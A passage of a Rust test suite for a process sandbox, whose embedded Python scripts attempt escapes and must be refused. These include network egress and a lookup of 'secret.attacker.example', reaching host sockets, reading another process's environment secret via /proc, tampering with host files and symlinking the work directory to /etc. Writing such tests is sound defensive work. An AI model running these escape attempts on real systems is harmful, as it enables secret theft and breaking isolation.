//! Cells without namespaces: what they refuse, and what a step may still do in them.

use super::harness::{Fixture, Ran};
use firsttry::cell::Here;
use firsttry::frame::{Attempt, Frame, Verdict};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

/// A cell to be that the step's user can get into, whoever started it.
fn here(script: &str) -> Fixture {
    opened(Fixture::python(&format!(
        "import socket, os, errno, threading
tcp = lambda f=socket.AF_INET: socket.socket(f, socket.SOCK_STREAM)
udp = lambda f=socket.AF_INET: socket.socket(f, socket.SOCK_DGRAM)
unix = lambda k=socket.SOCK_STREAM: socket.socket(socket.AF_UNIX, k)
def attempt(action):
    try: print('done', action())
    except socket.gaierror as e: print('no name', e.errno)
    except OSError as e: print(errno.errorcode[e.errno])
{script}"
    )))
}

fn opened(fixture: Fixture) -> Fixture {
    fs::set_permissions(fixture.dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
    fixture
}

fn run(fixture: &Fixture) -> Ran {
    fixture.run_in(&Here::default())
}

fn told(ran: &Ran) -> Vec<String> {
    let of = |frame: &Frame| match frame {
        Frame::Attempt { attempt: Attempt { verdict: Verdict::Denied, call, protocol, address, port, name, .. } } => {
            Some(format!("{call} {protocol} {address}:{port} {name}"))
        }
        _ => None,
    };
    ran.frames.iter().filter_map(of).collect()
}

#[test]
fn a_command_runs_and_is_told_where_it_is() {
    let ran =
        run(&here("print(open('README').read(), os.getuid() != 0, os.environ['FT_ROOT'] + '/work' == os.getcwd())"));
    assert_eq!(ran.passed(), "original\n True True\n");
}

#[test]
fn every_way_out_is_refused_and_told() {
    let ran = run(&here(
        "attempt(lambda: tcp().connect(('198.51.100.1', 80)))
attempt(lambda: tcp(socket.AF_INET6).connect(('2001:db8::1', 81)))
attempt(lambda: tcp(socket.AF_INET6).connect(('::ffff:198.51.100.2', 82)))
attempt(lambda: udp().sendto(b'x', ('198.51.100.3', 83)))
attempt(lambda: udp().sendmsg([b'x'], [], 0, ('198.51.100.4', 84)))
attempt(lambda: tcp().sendto(b'x', socket.MSG_FASTOPEN, ('198.51.100.5', 85)))
attempt(lambda: udp().connect(('198.51.100.6', 86)))
attempt(lambda: socket.getaddrinfo('secret.attacker.example', 443))",
    ));
    let expected = ["ENETUNREACH"; 7].join("\n") + "\nno name -3\n";
    assert_eq!(ran.passed(), expected);
    assert_eq!(
        told(&ran),
        [
            "connect tcp 198.51.100.1:80 ",
            "connect tcp 2001:db8::1:81 ",
            "connect tcp 198.51.100.2:82 ",
            "sendto udp 198.51.100.3:83 ",
            "sendmsg udp 198.51.100.4:84 ",
            "sendto tcp 198.51.100.5:85 ",
            "lookup dns :0 secret.attacker.example",
        ]
    );
}

#[test]
fn the_step_talks_to_itself() {
    let ran = run(&here(
        "import asyncio, multiprocessing, socketserver, subprocess, tempfile, http.server, urllib.request
l = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(l.getsockname()); s = l.accept()[0]
s.sendall(b'tcp'); s.close(); print(c.makefile().read())
every = socket.create_server(('0.0.0.0', 0)); c = socket.create_connection(('127.0.0.1', every.getsockname()[1])); print('every')
attempt(lambda: socket.create_connection((socket.gethostbyname(socket.gethostname()), every.getsockname()[1])) and 'by name')
six = socket.create_server(('::1', 0), family=socket.AF_INET6); socket.create_connection(six.getsockname()[:2]); print('six')
u = udp(); u.bind(('127.0.0.1', 0)); v = udp(); v.sendto(b'udp', u.getsockname()); data, at = u.recvfrom(9); u.sendto(data + b' back', at); print(v.recv(99).decode())
w = udp(); w.connect(u.getsockname()); w.send(b'connected'); print(u.recv(99).decode())
d = tempfile.mkdtemp(); l = unix(); l.bind(d + '/s'); l.listen(); c = unix(); c.connect(d + '/s'); s = l.accept()[0]; s.send(b'unix'); print(c.recv(9).decode())
os.chdir(d); c = unix(); c.connect('s'); l.accept(); print('relative')
l = unix(); l.bind('\\0ft-own-' + str(os.getpid())); l.listen(); c = unix(); c.connect('\\0ft-own-' + str(os.getpid())); print('abstract')
a = unix(socket.SOCK_DGRAM); a.bind(d + '/d'); b = unix(socket.SOCK_DGRAM); b.sendto(b'dgram', d + '/d'); print(a.recv(9).decode())
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.send(b'pair'); print(b.recv(9).decode())
a, b = socket.socketpair(); socket.send_fds(a, [b'fd'], [0]); print(socket.recv_fds(b, 9, 1)[0])
free = tcp(); free.bind(('127.0.0.1', 0)); at = free.getsockname(); free.close(); again = tcp(); again.bind(at); again.listen(); print('free port')
r = tcp()
again.close()
attempt(lambda: r.connect(at))
again = socket.create_server(at); attempt(lambda: r.connect(at)); again.accept()
async def echo():
    async def on(reader, writer): writer.writelines([await reader.read(9), b'!']); await writer.drain(); writer.close()
    server = await asyncio.start_server(on, '127.0.0.1', 0)
    reader, writer = await asyncio.open_connection(*server.sockets[0].getsockname())
    writer.write(b'asyncio'); print(await reader.read(9))
asyncio.run(echo())
with multiprocessing.Manager() as m: print(m.list([1, 2])[1])
with multiprocessing.Pool(2) as p: print(p.map(abs, [-1, -2]))
with http.server.ThreadingHTTPServer(('', 0), http.server.SimpleHTTPRequestHandler) as h:
    threading.Thread(target=h.serve_forever, daemon=True).start()
    print(urllib.request.urlopen('http://localhost:%d/' % h.server_port).status)
    h.shutdown()
p = subprocess.Popen(['sleep', '60']); p.terminate(); print(p.wait())
attempt(lambda: os.kill(os.getpid(), 0)); os.setpgid(0, 0) if os.getpgid(0) != os.getpid() else 0; attempt(lambda: os.killpg(0, 0))",
    ));
    let expected = "tcp\nevery\ndone by name\nsix\nudp back\nconnected\nunix\nrelative\nabstract\ndgram\npair\nb'fd'\nfree port\n\
                    ECONNREFUSED\ndone None\nb'asyncio!'\n2\n[1, 2]\n200\n-15\ndone None\ndone None\n";
    // The machine's own name need not be an address of it.
    assert_eq!(
        ran.passed().replace("no name -2\n", "done by name\n").replace("no name -3\n", "done by name\n"),
        expected,
        "{}",
        ran.error
    );
}

/// A cell whose attack is run without walls first: what it must print there, and what in the cell.
fn attack(script: &str, without: &str, within: &str) -> Ran {
    let fixture = here(script);
    assert_eq!(fixture.control(), without, "the attack works where nothing stops it");
    let ran = run(&fixture);
    assert_eq!(ran.passed(), within, "{}", ran.error);
    ran
}

#[test]
fn services_of_the_machine_are_not_reached_over_loopback() {
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let (tcp_port, udp_port) = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
    let script = format!(
        "attempt(lambda: tcp().connect(('127.0.0.1', {tcp_port})))
attempt(lambda: tcp().connect(('localhost', {tcp_port})))
attempt(lambda: tcp(socket.AF_INET6).connect(('::ffff:127.0.0.1', {tcp_port})))
attempt(lambda: tcp().connect(('0.0.0.0', {tcp_port})))
attempt(lambda: udp().sendto(b'x', ('127.0.0.1', {udp_port})))
u = udp(); attempt(lambda: u.connect(('127.0.0.1', {udp_port}))); attempt(lambda: u.send(b'x'))"
    );
    let refused = "ECONNREFUSED\n".repeat(4);
    attack(
        &script,
        &("done None\n".repeat(4) + "done 1\ndone None\ndone 1\n"),
        &(refused + "done 1\ndone None\ndone 1\n"),
    );
    let (mut connections, mut datagrams, mut buffer) = (0, 0, [0; 9]);
    while tcp.accept().is_ok() {
        connections += 1;
    }
    while udp.recv_from(&mut buffer).is_ok() {
        datagrams += 1;
    }
    // Those of the control arm.
    assert_eq!((connections, datagrams), (4, 2));
}

#[test]
fn a_listener_of_the_step_does_not_hide_one_of_the_machine() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "for at in ['127.0.0.2', '0.0.0.0', '127.0.0.1']:
    s = tcp(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try: s.bind((at, {port})); s.listen()
    except OSError: pass
attempt(lambda: tcp().connect(('127.0.0.1', {port})))"
    );
    attack(&script, "done None\n", "ECONNREFUSED\n");
    assert!(listener.accept().is_ok(), "the control arm came through");
    assert!(listener.accept().is_err());
}

#[test]
fn unix_sockets_of_the_machine_are_not_reached_by_any_name() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let (path, log) = (dir.path().join("s"), dir.path().join("log"));
    let listener = UnixListener::bind(&path).unwrap();
    let datagrams = UnixDatagram::bind(&log).unwrap();
    let name = format!("ft-foreign-{}", dir.path().display());
    let named = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    for path in [&path, &log] {
        fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
    }
    listener.set_nonblocking(true).unwrap();
    named.set_nonblocking(true).unwrap();
    datagrams.set_nonblocking(true).unwrap();
    let script = format!(
        "import tempfile
path, log, d = {path:?}, {log:?}, tempfile.mkdtemp()
os.symlink(os.path.dirname(path), d + '/link')
attempt(lambda: unix().connect(path))
attempt(lambda: unix().connect('/proc/self/root' + path))
attempt(lambda: unix().connect(d + '/link/s'))
os.chdir('/'); attempt(lambda: unix().connect(path[1:]))
# A socket of the step that is listed under the very name that leads to the machine's.
os.mkdir(d + '/real'); own = unix(); own.bind(d + '/real/s'); own.listen(); os.rename(d + '/real', d + '/away'); os.symlink(os.path.dirname(path), d + '/real')
attempt(lambda: unix().connect(d + '/real/s'))
attempt(lambda: unix().connect('\\0' + {name:?}))
attempt(lambda: unix(socket.SOCK_DGRAM).sendto(b'x', log))
attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', log))"
    );
    let within = "ENOENT\n".repeat(5) + "ECONNREFUSED\nENOENT\nENOENT\n";
    attack(&script, &("done None\n".repeat(6) + "done 1\ndone 1\n"), &within);
    let mut accepted = 0;
    while listener.accept().is_ok() {
        accepted += 1;
    }
    let mut buffer = [0; 9];
    assert_eq!((accepted, named.accept().is_ok(), named.accept().is_ok()), (5, true, false));
    assert_eq!((0..9).filter(|_| datagrams.recv(&mut buffer).is_ok()).count(), 2);
}

#[test]
fn processes_outside_are_not_signalled_and_their_secrets_not_read() {
    let mut outside = std::process::Command::new("sleep").arg("600").env("SECRET", "canary").spawn().unwrap();
    let pid = outside.id();
    // A process whose priority was lowered can't get it back without rights: the control arm would spoil the machine.
    let script = format!(
        "import ctypes, resource, signal, fcntl
libc = ctypes.CDLL(None, use_errno=True)
def call(*a):
    if libc.syscall(*a) < 0: raise OSError(ctypes.get_errno(), '')
attempt(lambda: os.kill({pid}, 0))
attempt(lambda: call(234, {pid}, {pid}, 0))
attempt(lambda: call(129, {pid}, 0, 0))
attempt(lambda: os.pidfd_open({pid}) and 1)
attempt(lambda: resource.prlimit({pid}, resource.RLIMIT_CORE) and 1)
attempt(lambda: os.sched_setaffinity({pid}, os.sched_getaffinity(0)))
attempt(lambda: b'canary' in open('/proc/{pid}/environ', 'rb').read())
attempt(lambda: fcntl.fcntl(0, fcntl.F_SETOWN, {pid}))
attempt(lambda: os.kill(os.getppid(), 0))"
    );
    let fixture = here(&script);
    assert!(fixture.control().contains("True"), "the control arm sees the secret");
    let ran = run(&fixture);
    assert_eq!(ran.passed(), "ESRCH\nESRCH\nESRCH\nESRCH\nEPERM\nEPERM\nEACCES\nEPERM\nESRCH\n", "{}", ran.error);
    // All of the user at once: nobody outside is there for it.
    let ran = run(&here(
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nos.kill(-1, signal.SIGTERM); print('sent')",
    ));
    assert_eq!(ran.passed(), "sent\n");
    assert!(outside.try_wait().unwrap().is_none());
    outside.kill().unwrap();
    outside.wait().unwrap();
}

/// A directory that everybody could use and that is in none of the shared places. An ordinary user is given one by whoever
/// started these tests as him.
#[expect(clippy::disallowed_methods, reason = "what these tests tell themselves")]
pub fn outside_of_tmp(builder: &tempfile::Builder) -> tempfile::TempDir {
    let own = std::env::current_exe().unwrap();
    let given = std::env::var_os(super::user::PLACE).unwrap_or_default();
    let places = [Path::new(&given), Path::new("/opt"), Path::new("/run"), own.parent().unwrap()];
    let places = places.map(|place| if place.is_absolute() { place } else { Path::new("/nonexistent") });
    let shared = |place: &Path| ["/tmp", "/var/tmp", "/dev/shm"].iter().any(|shared| place.starts_with(shared));
    let made = places.iter().filter(|place| !shared(place)).find_map(|place| builder.tempdir_in(place).ok());
    made.expect("a place outside of /tmp that can be written")
}

#[test]
fn files_of_the_machine_are_not_read_or_written() {
    // Readable and writable for everybody, so that only Landlock is in the way. Beside the cell's own places, not in a
    // shared one.
    let home = outside_of_tmp(&tempfile::Builder::new());
    fs::set_permissions(home.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let secret = home.path().join("secret");
    fs::write(&secret, "canary").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o666)).unwrap();
    let script = format!(
        "secret, home = {secret:?}, {home:?}
attempt(lambda: open(secret).read())
attempt(lambda: open('/proc/self/root' + secret).read())
attempt(lambda: len(os.listdir(home)))
attempt(lambda: open(secret, 'a').close())
attempt(lambda: open(home + '/new', 'w').close())
attempt(lambda: os.link(secret, 'hard' + str(os.getpid())))
attempt(lambda: os.truncate(secret, 6))
attempt(lambda: os.mkdir(home + '/made'))
attempt(lambda: os.rename(home + '/made', home + '/moved'))
attempt(lambda: os.rmdir(home + '/moved'))",
        home = home.path()
    );
    let fixture = here(&script);
    let control = fixture.control();
    assert!(control.starts_with("done canary\ndone canary\n") && control.matches("done").count() >= 9, "{control}");
    let _ = fs::remove_file(home.path().join("new"));
    let before = fs::metadata(&secret).unwrap().modified().unwrap();
    let ran = run(&fixture);
    let refused: Vec<&str> = ran.passed().lines().collect();
    assert_eq!(refused.len(), 10);
    assert!(refused.iter().all(|line| ["EACCES", "EXDEV", "ENOENT", "EPERM"].contains(line)), "{refused:?}");
    assert!(!home.path().join("new").exists() && !home.path().join("made").exists());
    assert_eq!(fs::metadata(&secret).unwrap().modified().unwrap(), before);
}

#[test]
fn modes_owners_times_and_attributes_outside_stay_by_every_name() {
    let home = outside_of_tmp(&tempfile::Builder::new());
    let secret = home.path().join("secret");
    fs::write(&secret, "canary").unwrap();
    super::harness::give_to_step(home.path());
    fs::set_permissions(home.path(), fs::Permissions::from_mode(0o755)).unwrap();
    // A mount for reading: descriptors of it can be had.
    let script = format!(
        "import ctypes, struct
secret, home = {secret:?}, {home:?}
libc = ctypes.CDLL(None, use_errno=True)
def call(*a):
    if libc.syscall(*a) < 0: raise OSError(ctypes.get_errno(), '')
fd, d = os.open(secret, os.O_RDONLY), os.open(home, os.O_RDONLY)
link = 'link%d' % os.getpid(); os.symlink(secret, link); os.symlink('/proc/self/fd/%d' % fd, link + 'fd')
away = os.path.relpath(secret)
names = [secret, link, link + 'fd', away, '/proc/self/cwd/' + away, '/proc/thread-self/cwd/' + link, '/proc/self/root' + secret, '/proc/self/fd/%d' % fd, '/proc/%d/fd/%d' % (os.getpid(), fd), fd]
for at in names:
    attempt(lambda: os.chmod(at, 0o777))
    attempt(lambda: os.utime(at, (1, 1)))
    attempt(lambda: os.utime(at))
    attempt(lambda: os.chown(at, -1, -1))
    attempt(lambda: os.setxattr(at, 'user.ft', b'1'))
    attempt(lambda: os.removexattr(at, 'user.ft'))
attempt(lambda: os.chmod('secret', 0o777, dir_fd=d))
attempt(lambda: os.utime('secret', (1, 1), dir_fd=d, follow_symlinks=False))
attempt(lambda: os.chown('secret', -1, -1, dir_fd=d))
attempt(lambda: os.lchown(secret, -1, -1))
attempt(lambda: os.setxattr(secret, 'user.ft', b'1', follow_symlinks=False))
attempt(lambda: os.chmod(home, 0o777)); attempt(lambda: os.fchmod(d, 0o777))
attempt(lambda: call(132, secret.encode(), struct.pack('qq', 1, 1)))
attempt(lambda: call(235, secret.encode(), struct.pack('qqqq', 1, 0, 1, 0)))
attempt(lambda: call(261, d, b'secret', struct.pack('qqqq', 1, 0, 1, 0)))
attempt(lambda: call(452, fd, b'', 0o777, 0x1000))
attempt(lambda: call(452, -100, secret.encode(), 0o777, 0))
attempt(lambda: call(260, fd, b'', -1, -1, 0x1000))",
        home = home.path()
    );
    let fixture = here(&script).mount(home.path(), "/ft/read", false);
    let control = fixture.control();
    assert_eq!(control.lines().count(), 73, "{control}");
    // What the file system or the kernel does not have at all.
    let had = |line: &str| line.starts_with("done") || ["EOPNOTSUPP", "ENOTSUP", "ENOSYS"].contains(&line);
    assert!(control.lines().all(had), "{control}");
    assert_eq!(fs::metadata(&secret).unwrap().permissions().mode() & 0o7777, 0o777);
    for (path, mode) in [(home.path(), 0o755), (secret.as_path(), 0o640)] {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }
    use std::os::unix::fs::MetadataExt;
    let state = || {
        let one = |path: &Path| {
            let meta = fs::metadata(path).unwrap();
            let names = rustix::fs::listxattr(path, &mut [0u8; 4096][..]).unwrap_or(0);
            (meta.mode(), meta.mtime_nsec(), meta.mtime(), meta.ctime(), meta.ctime_nsec(), names)
        };
        [one(home.path()), one(&secret)]
    };
    let before = state();
    let ran = run(&fixture);
    assert_eq!(ran.passed(), "EPERM\n".repeat(73), "{}", ran.error);
    assert_eq!(state(), before);
}

#[test]
fn files_of_the_step_are_changed_as_everywhere() {
    let script = "import shutil, stat, subprocess, tarfile, tempfile, zipfile, io
mode = lambda p: oct(stat.S_IMODE(os.stat(p).st_mode))
os.umask(0o027); d = tempfile.mkdtemp(); os.chdir(d); print(mode('.'))
open('a', 'w').write('1'); print(mode('a')); os.chmod('a', 0o4751); print(mode('a')); os.chmod(d + '/a', 0o600)
os.utime('a', ns=(1_000_000_001, 2_000_000_003)); s = os.stat('a'); print(s.st_atime_ns, s.st_mtime_ns)
os.symlink('a', 'l'); os.utime('l', (7, 8), follow_symlinks=False); print(os.lstat('l').st_mtime, os.stat('l').st_mtime_ns)
os.chmod('l', 0o640); print(mode('a'), os.path.islink('l')); os.lchown('l', -1, -1); os.chown('l', os.getuid(), -1)
os.symlink('loop', 'loop'); os.mkdir('dir'); os.chmod('dir/', 0o711); print(mode('dir'))
for p in ['none', 'a/x', 'a/', 'loop', '', 'n' * 300, 'p/' * 2500, '/proc/self/cwd/none', '/proc/self/fd/999', '/proc/self/cwd/a/', -1, 999]:
    attempt(lambda: os.chmod(p, 0o600)); attempt(lambda: os.utime(p)); attempt(lambda: os.chown(p, -1, -1))
fd = os.open('a', os.O_RDWR); os.fchmod(fd, 0o604); print(mode('a')); os.utime(fd, (5, 6)); print(os.stat('a').st_mtime); os.fchown(fd, -1, -1)
for p in ['/proc/self/fd/%d' % fd, '/proc/thread-self/fd/%d' % fd, '/proc/self/cwd/a', '/proc/self/root' + d + '/l', '/dev/fd/%d' % fd, '../' + os.path.basename(d) + '/a']:
    os.chmod(p, 0o611); os.utime(p, (1, 9)); print(mode('a'), os.stat('a').st_mtime); os.chmod('a', 0)
    os.chmod('a', 0o600)
t = threading.Thread(target=lambda: os.chmod('/proc/thread-self/cwd/a', 0o660)); t.start(); t.join(); print(mode('a'))
f = tempfile.TemporaryFile(); os.fchmod(f.fileno(), 0o640); os.utime(f.fileno(), (3, 4)); print(os.fstat(f.fileno()).st_mtime, mode(f.fileno()))
r, w = os.pipe(); os.fchmod(w, 0o600); m = os.memfd_create('m'); os.fchmod(m, 0o600); print(mode(m))
def attributes():
    os.setxattr('a', 'user.x', b'value'); x = os.getxattr('a', 'user.x'); attempt(lambda: os.setxattr('a', 'user.x', b'', os.XATTR_CREATE)); os.removexattr(fd, 'user.x'); return x, os.listxattr('a')
attempt(attributes); attempt(lambda: os.removexattr('a', 'user.none')); attempt(lambda: os.setxattr('a', 'user.' + 'x' * 300, b''))
os.chmod('a', 0o754); os.utime('a', ns=(11, 12_000_000_013)); shutil.copy2('a', 'b'); print(mode('b'), os.stat('b').st_mtime_ns)
os.mkdir('tree'); shutil.copy2('a', 'tree/x'); os.symlink('x', 'tree/s'); os.chmod('tree', 0o705); shutil.copytree('tree', 'copy', symlinks=True); print(mode('copy'), os.stat('copy/x').st_mtime_ns)
with tarfile.open('t.tar', 'w') as t: t.add('tree')
os.mkdir('x'); tarfile.open('t.tar').extractall('x'); print(mode('x/tree/x'), int(os.stat('x/tree/x').st_mtime), os.readlink('x/tree/s'))
def sh(*a, **k): return subprocess.run(a, check=True, capture_output=True, text=True, **k).stdout
sh('cp', '-a', 'tree', 'cp'); print(mode('cp'), os.stat('cp/x').st_mtime_ns, os.readlink('cp/s'))
os.mkdir('y'); sh('tar', '-xpf', 't.tar', '-C', 'y'); print(mode('y/tree/x'), int(os.stat('y/tree/x').st_mtime))
sh('touch', '-d', '@77', 'a'); sh('chmod', 'u=rwx,go=', 'a'); sh('install', '-m', '751', 'a', 'i'); print(mode('a'), os.stat('a').st_mtime, mode('i'))
env = dict(os.environ, HOME=d, GIT_CONFIG_NOSYSTEM='1', **{'GIT_%s_%s' % (w, v): 'x@y' for w in ['AUTHOR', 'COMMITTER'] for v in ['NAME', 'EMAIL']})
os.mkdir('g'); git = lambda *a: sh('git', '-C', 'g', *a, env=env)
git('init', '-q'); shutil.copy2('a', 'g/a'); git('add', '.'); git('commit', '-qm', 'x'); os.chmod('g/a', 0o600); print(git('status', '--short').strip()); git('checkout', '-q', '.'); git('gc', '-q'); git('clone', '-q', '.', 'c'); print(oct(os.stat('g/c/a').st_mode & 0o111))
os.mkdir('shut'); open('shut/f', 'w'); os.chmod('shut', 0o500); os.chmod('shut', 0o700); shutil.rmtree('shut')
os.chdir('/'); shutil.rmtree(d); print(os.path.exists(d))";
    let fixture = here(script);
    let control = fixture.control();
    assert!(control.ends_with("False\n"), "{control}");
    let ran = run(&fixture);
    assert_eq!(ran.passed(), control, "{}", ran.error);
}

#[test]
fn interprocess_objects_of_the_machine_are_not_opened() {
    // Keys and names of their own: two runs at once must not meet.
    let script = "import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(*a):
    n = libc.syscall(*a)
    if n < 0: raise OSError(ctypes.get_errno(), '')
    return n
key, name, made = 0x46540000 | os.getpid() & 0xffff, b'ft-%d' % os.getpid(), []
def get(n, *a): made.append((n, call(n, *a))); return 'made'
attempt(lambda: get(29, key, 4096, 0o1600)); attempt(lambda: get(64, key, 1, 0o1600)); attempt(lambda: get(68, key, 0o1600))
attempt(lambda: call(240, name, os.O_CREAT | os.O_RDWR, 0o600, 0) and 'made')
for n, i in made: call({29: 31, 64: 66, 68: 71}[n], i, *([0] if n == 64 else []), 0, 0)
attempt(lambda: call(241, name))";
    attack(script, &("done made\n".repeat(4) + "done 0\n"), &"ENOSYS\n".repeat(5));
}

#[test]
fn a_daemon_of_the_step_does_not_survive_it() {
    let ran = run(&here(
        "import time
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        if os.fork(): os._exit(0)
        os.environ.clear()
        time.sleep(600)
print('started')",
    ));
    assert_eq!(ran.passed(), "started\n");
    assert_eq!(ran.ended().survivors.len(), 20, "{:?}", ran.ended().survivors);
    let left = super::harness::processes("time.sleep(600)");
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn what_a_step_changed_is_the_layer_of_the_next_one() {
    let fixture = here("os.remove('README'); open('made', 'w').write('1'); os.mkdir('d'); open('d/x', 'w').write('2')");
    run(&fixture).passed();
    let changes = fixture.walls.scratch.join("changes");
    let mut names: Vec<_> =
        fs::read_dir(&changes).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    assert_eq!(names, ["README", "d", "made"]);
    let scratch = fixture.dir.path().join("second");
    fs::create_dir(&scratch).unwrap();
    // Nothing stays where the step ran.
    let at = run(&here("print(os.environ['FT_ROOT'], os.environ['TMPDIR'])")).passed().to_owned();
    assert!(at.starts_with("/tmp/ft-cell-") || at.starts_with("/var/tmp/ft-cell-"), "{at}");
    assert!(at.split_ascii_whitespace().all(|path| !Path::new(path).exists()), "{at}");
    let next = here("print(sorted(os.listdir('.')), open('d/x').read())").with(|walls, _| {
        walls.work = firsttry::cell::Work::View(vec![changes, fixture.tree()]);
    });
    assert_eq!(run(&next).passed(), "['d', 'made'] 2\n");
    assert_eq!(fs::read_to_string(fixture.tree().join("README")).unwrap(), "original\n");
}

/// Tries in which a sibling thread swaps what the call was allowed for.
const TRIES: u32 = 100_000;

/// Two sockets of the machine that nobody in a cell may reach.
struct Forbidden {
    at: std::net::SocketAddr,
    udp: std::net::UdpSocket,
    accepted: std::sync::mpsc::Receiver<Option<std::net::SocketAddr>>,
}

impl Forbidden {
    fn new() -> Forbidden {
        let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let at = tcp.local_addr().unwrap();
        // Where nobody accepts, the control arm waits: a full backlog drops what begins a connection, and seconds pass
        // before it is sent again.
        let (send, accepted) = std::sync::mpsc::channel();
        std::thread::spawn(move || tcp.incoming().flatten().all(|peer| send.send(peer.peer_addr().ok()).is_ok()));
        Forbidden { at, udp, accepted }
    }

    fn arguments(&self, mode: &str, tries: u32) -> [String; 4] {
        let udp = self.udp.local_addr().unwrap().port();
        [mode.to_owned(), self.at.port().to_string(), udp.to_string(), tries.to_string()]
    }

    /// How many connections and datagrams arrived.
    fn came_through(&self) -> usize {
        let mut buffer = [0; 9];
        // Ours is the last of the connections.
        let last = std::net::TcpStream::connect(self.at).unwrap().local_addr().ok();
        self.accepted.iter().take_while(|peer| *peer != last).count()
            + (0..1_000_000).take_while(|_| self.udp.recv(&mut buffer).is_ok()).count()
    }
}

/// Runs the race in the control arm and in a cell. Each has sockets of its own: what was under way when the control
/// ended arrives seconds later.
fn race(mode: &str) {
    let fixture = opened(Fixture::new());
    let program = fixture.tree().join("race");
    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cells/race.c");
    let built = std::process::Command::new("cc").args(["-O2", "-pthread", "-o"]).arg(&program).arg(source).status();
    assert!(built.unwrap().success());
    // Without a wall it takes few tries.
    let open = Forbidden::new();
    let control = std::process::Command::new(&program).args(open.arguments(mode, 200_000)).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&control.stdout), "200000\n");
    assert!(open.came_through() > 0, "the race is won where nobody looks");
    let walled = Forbidden::new();
    let fixture = fixture.with(|_, manifest| {
        manifest.argv = std::iter::once("/ft/work/race".to_owned()).chain(walled.arguments(mode, TRIES)).collect();
        // A busy machine takes its time with as many calls.
        manifest.timeout_ms = 1_500_000;
    });
    let ran = run(&fixture);
    assert_eq!(ran.passed(), format!("{TRIES}\n"));
    assert_eq!(walled.came_through(), 0);
}

#[test]
fn an_address_that_is_rewritten_while_it_is_looked_at_reaches_nobody() {
    race("address");
}

#[test]
fn a_descriptor_that_is_flipped_while_it_is_looked_at_reaches_nobody() {
    race("descriptor");
}

#[test]
fn configuration_is_looked_for_in_the_folders_above_without_harm() {
    // As pytest, ruff, mypy and git do. Nothing of the repository is above the tree.
    let ran = run(&here(
        "at = os.getcwd()
while at != '/':
    at = os.path.dirname(at)
    for name in ['pytest.ini', 'pyproject.toml', 'setup.cfg', '.git', 'ruff.toml']:
        path = os.path.join(at, name)
        if os.path.exists(path): print(open(path).read())
    if at.startswith(os.environ['FT_ROOT']): print(sorted(os.listdir(at)))
print('looked')",
    ));
    assert_eq!(ran.passed(), "['home', 'out', 'witness', 'work']\nlooked\n");
}

#[test]
fn a_step_that_moves_its_own_cell_gives_nothing_back() {
    // Its root is the step's own where an ordinary user started it, and below /tmp, where everything is writable.
    let fixture = here(
        "root = os.environ['FT_ROOT']
try: os.rename(root + '/work', root + '/away'); os.symlink('/etc', root + '/work'); print('moved')
except OSError as e: print('kept')",
    );
    let ran = run(&fixture);
    let finished = ran.finished();
    match ran.output.as_str() {
        "kept\n" => assert_eq!(finished.broken, None),
        "moved\n" => assert!(finished.broken.as_ref().is_some_and(|(stage, _)| stage == "places"), "{finished:?}"),
        other => panic!("{other}"),
    }
    assert_eq!(fs::read_dir(fixture.walls.scratch.join("changes")).unwrap().count(), 0);
}

#[test]
fn a_step_that_writes_too_much_is_ended() {
    for target in ["'big'", "os.environ['HOME'] + '/big'", "os.environ['TMPDIR'] + '/big'"] {
        let fixture = here(&format!(
            "import time
f = open({target}, 'wb')
for _ in range(600): f.write(bytes(1 << 20)); f.flush(); time.sleep(0.01)
print('never')"
        ))
        .with(|walls, manifest| {
            walls.limits.disk_bytes = Some(8 << 20);
            manifest.env.push(("TMPDIR".into(), "/tmp".into()));
        });
        let ran = run(&fixture);
        assert!(ran.ended().out_of_disk, "{target}: {:?}", ran.ended());
    }
    // One without a name as long as it is open.
    let fixture = here(
        "import time
f = open('big', 'wb'); os.remove('big')
for _ in range(600): f.write(bytes(1 << 20)); f.flush(); time.sleep(0.01)
print('never')",
    )
    .with(|walls, _| walls.limits.disk_bytes = Some(8 << 20));
    assert!(run(&fixture).ended().out_of_disk);
}

#[test]
fn a_step_takes_a_while() {
    assert_eq!(run(&here("import time\ntime.sleep(3); print('whole')")).passed(), "whole\n");
}

#[test]
fn a_sweep_on_the_machine_leaves_the_steps_of_a_container_alone() {
    use super::container::{CELLS, Container};
    // The numbers in their markers are those of another pid namespace.
    let contained = std::thread::spawn(|| Container::new().passed(&[CELLS, "--exact", "here::a_step_takes_a_while"]));
    let mut seen = 0;
    while !contained.is_finished() {
        seen += usize::from(!super::harness::processes("time.sleep(3); print('whole')").is_empty());
        firsttry::cell::sweep();
